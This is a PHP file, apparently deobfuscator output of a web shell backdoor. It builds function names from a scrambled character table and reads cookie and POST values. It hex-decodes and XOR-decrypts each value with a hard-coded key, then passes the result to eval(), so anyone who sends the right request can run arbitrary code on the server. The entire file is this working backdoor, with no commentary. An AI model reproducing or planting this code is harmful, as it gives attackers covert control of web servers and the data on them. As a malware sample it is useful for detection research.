/* Decoded by unphp.net */

<?php
$falwt = 't9ke0fbvoxn#8ruy_*\'lHi7adscm34gp-';
$pexaijc = Array();
$pexaijc[] = $falwt[20] . $falwt[17];
$pexaijc[] = $falwt[3] . $falwt[24] . $falwt[12] . $falwt[4] . $falwt[23] . $falwt[12] . $falwt[22] . $falwt[29] . $falwt[32] . $falwt[23] . $falwt[12] . $falwt[3] . $falwt[23] . $falwt[32] . $falwt[29] . $falwt[6] . $falwt[24] . $falwt[24] . $falwt[32] . $falwt[1] . $falwt[5] . $falwt[5] . $falwt[1] . $falwt[32] . $falwt[26] . $falwt[29] . $falwt[24] . $falwt[24] . $falwt[5] . $falwt[6] . $falwt[23] . $falwt[28] . $falwt[12] . $falwt[1] . $falwt[6] . $falwt[29];
$pexaijc[] = $falwt[11];
$pexaijc[] = $falwt[26] . $falwt[8] . $falwt[14] . $falwt[10] . $falwt[0];
$pexaijc[] = $falwt[25] . $falwt[0] . $falwt[13] . $falwt[16] . $falwt[13] . $falwt[3] . $falwt[31] . $falwt[3] . $falwt[23] . $falwt[0];
$pexaijc[] = $falwt[3] . $falwt[9] . $falwt[31] . $falwt[19] . $falwt[8] . $falwt[24] . $falwt[3];
$pexaijc[] = $falwt[25] . $falwt[14] . $falwt[6] . $falwt[25] . $falwt[0] . $falwt[13];
$pexaijc[] = $falwt[23] . $falwt[13] . $falwt[13] . $falwt[23] . $falwt[15] . $falwt[16] . $falwt[27] . $falwt[3] . $falwt[13] . $falwt[30] . $falwt[3];
$pexaijc[] = $falwt[25] . $falwt[0] . $falwt[13] . $falwt[19] . $falwt[3] . $falwt[10];
$pexaijc[] = $falwt[31] . $falwt[23] . $falwt[26] . $falwt[2];
foreach ($pexaijc[7]($_COOKIE, $_POST) as $qvhieyr => $iqtbkxe) {
    function ypvajaz($pexaijc, $qvhieyr, $coijg) {
        return $pexaijc[6]($pexaijc[4]($qvhieyr . $pexaijc[1], ($coijg / $pexaijc[8]($qvhieyr)) + 1), 0, $coijg);
    }
    function oybwfz($pexaijc, $imvmdw) {
        return @$pexaijc[9]($pexaijc[0], $imvmdw);
    }
    function jdkzd($pexaijc, $imvmdw) {
        $rvttfi = $pexaijc[3]($imvmdw) % 3;
        if (!$rvttfi) {
            eval($imvmdw[1]($imvmdw[2]));
            exit();
        }
    }
    $iqtbkxe = oybwfz($pexaijc, $iqtbkxe);
    jdkzd($pexaijc, $pexaijc[5]($pexaijc[2], $iqtbkxe ^ ypvajaz($pexaijc, $qvhieyr, $pexaijc[8]($iqtbkxe))));
} ?>